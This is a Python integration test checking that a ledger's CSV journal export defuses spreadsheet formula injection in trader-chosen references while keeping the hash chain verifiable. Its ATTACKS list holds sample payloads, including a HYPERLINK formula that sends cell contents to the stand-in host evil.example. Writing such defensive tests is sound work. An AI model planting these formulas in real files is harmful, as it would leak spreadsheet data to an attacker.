"""The journal export is safe to open in a spreadsheet (issue 19, CSV formula injection):
references chosen by traders (listing, transfer and bid ids) that begin with =, +, -, @, a tab
or a CR are written inert, and the hash chain is still recomputed from the export alone
(`kernel.csvout.unescape`), on both databases."""

from __future__ import annotations

import csv
import io

import pytest

from kernel import csvout
from ledger import service as ledger
from ledger.entries import Transfer
from ledger.transactions import Initiator
from tests.integration.ledger.conftest import NOW, Books, export_hash

pytestmark = pytest.mark.db
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1", "'=1"]
HASHED = ("seq", "id", "batch", "type", "phase", "pending_id", "debit_account",
          "credit_account", "asset", "amount", "reference", "initiator", "created_at_us",
          "timeout_at_us")


def test_user_chosen_references_are_inert_and_the_chain_recomputes(platform, books: Books  # type: ignore[no-untyped-def]
                                                                   ) -> None:
    for i, ref in enumerate(ATTACKS):
        ledger.submit(platform.uow, [Transfer(f"x{i}", "transfer", books.cash1, books.cash2,
                                              1, reference=ref)],
                      initiator=Initiator.ENTERPRISE, actor="e", batch=f"xb{i}", now=NOW)
    text = "".join(ledger.export_journal(platform.uow(), "csv"))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    refs = {r["id"]: r["reference"] for r in rows}
    for i, ref in enumerate(ATTACKS):
        assert refs[f"x{i}"] == "'" + ref  # a spreadsheet shows it as text
        assert csvout.unescape(refs[f"x{i}"]) == ref
    for r in rows:  # no cell of the export starts a formula
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
    prev = "0" * 64
    for r in rows:  # an auditor recomputes the chain from the export alone
        assert export_hash(prev, {k: csvout.unescape(v) for k, v in r.items()}) == r["hash"]
        prev = r["hash"]
    assert ledger.verify(platform.uow()).ok
